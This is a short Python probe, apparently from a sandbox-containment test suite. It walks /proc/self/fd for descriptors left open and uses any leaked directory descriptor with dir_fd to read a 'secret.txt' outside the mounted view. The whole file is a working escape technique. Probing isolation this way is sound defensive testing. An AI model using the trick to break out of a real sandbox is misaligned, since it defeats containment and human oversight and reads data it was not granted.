"""Descriptors that somebody forgot to close: a folder among them is a way out, past every mount."""

from siege import OUTPUTS, finish, got, os

listing = os.open("/proc/self/fd", os.O_RDONLY)
for name in os.listdir(listing):
    number = int(name)
    if number in (0, 1, 2, 3, listing, OUTPUTS):
        continue
    try:
        got("descriptor", f"{number} {os.readlink('/proc/self/fd/' + name)}")
    except FileNotFoundError:
        continue  # The listing itself.
    try:
        got("the secret beside it", open(os.open("secret.txt", os.O_RDONLY, dir_fd=number)).read())
    except OSError:
        pass
finish()
